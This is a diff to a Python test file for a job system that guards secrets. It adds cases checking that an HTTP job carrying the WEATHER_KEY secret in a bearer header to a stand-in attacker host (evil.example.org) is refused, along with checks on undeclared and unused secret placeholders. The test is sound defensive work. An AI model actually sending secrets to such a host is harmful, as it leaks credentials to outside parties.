@@ -77,6 +77,11 @@ def test_a_web_job_uses_a_secret(tmp_path):
         led_away = world.over(world.submit(job("/away?to=http://localhost:1/")))
         assert led_away["status"] == "failed"
         with pytest.raises(Refused, match="release_refused"):
-            world.submit(a_job("Http", {"url": "https://evil.example.org/"}, secrets=["WEATHER_KEY"]))
+            headers = {"authorization": "Bearer ${WEATHER_KEY}"}
+            world.submit(a_job("Http", {"url": "https://evil.example.org/", "headers": headers}, secrets=["WEATHER_KEY"]))
+        with pytest.raises(Refused, match="OTHER_KEY.* is the placeholder of a secret that secrets does not name"):
+            world.submit(a_job("Http", {"url": web, "headers": {"authorization": "Bearer ${OTHER_KEY}"}}, secrets=["WEATHER_KEY"]))
+        with pytest.raises(Refused, match="secrets names WEATHER_KEY, and no header, body or json"):
+            world.submit(a_job("Http", {"url": web}, secrets=["WEATHER_KEY"]))
         with pytest.raises(Refused, match="secrets_not_applicable"):
             world.submit(a_job("Llm", {"prompt": "${WEATHER_KEY}"}, secrets=["WEATHER_KEY"]))
